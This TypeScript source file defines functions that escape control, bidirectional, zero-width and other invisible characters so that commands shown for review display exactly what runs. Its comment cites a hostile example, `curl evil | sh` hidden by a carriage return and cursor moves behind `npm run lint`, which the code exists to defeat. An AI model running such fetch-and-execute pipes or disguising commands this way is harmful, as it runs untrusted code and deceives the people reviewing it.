/**
 * What the user reviews is what runs: commands, names, matchers and paths are printed with every
 * character that a terminal would not show as itself written as an escape. Control characters
 * (`\r` that returns to the start of the line, `\x1b` that starts an ANSI sequence, backspace),
 * bidirectional overrides and isolates (`\u202e`), zero-width and other format characters, line
 * and paragraph separators, unusual spaces, private-use, unassigned and lone surrogate code
 * points. So `curl evil | sh\r` followed by cursor moves and `npm run lint` shows all of it.
 * Backslashes are left as they are: the escapes only ever add what was hidden.
 */
const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cn}\p{Cs}\u00a0\u1680\u2000-\u200a\u202f\u205f\u3000\u115f\u1160\u3164\uffa0]/gu;

function escapeChar(ch: string): string {
  if (ch === '\n') return '\\n';
  if (ch === '\r') return '\\r';
  if (ch === '\t') return '\\t';
  const code = ch.codePointAt(0)!;
  if (code < 0x100) return `\\x${code.toString(16).padStart(2, '0')}`;
  if (code <= 0xffff) return `\\u${code.toString(16).padStart(4, '0')}`;
  return `\\u{${code.toString(16)}}`;
}

/** `text` with every invisible or terminal-controlling character escaped; one line. */
export function visible(text: string): string {
  return text.replace(HIDDEN, escapeChar);
}

/** As visible, keeping line breaks: for messages printed over several lines on purpose. */
export function visibleLines(text: string): string {
  return text.split('\n').map(visible).join('\n');
}
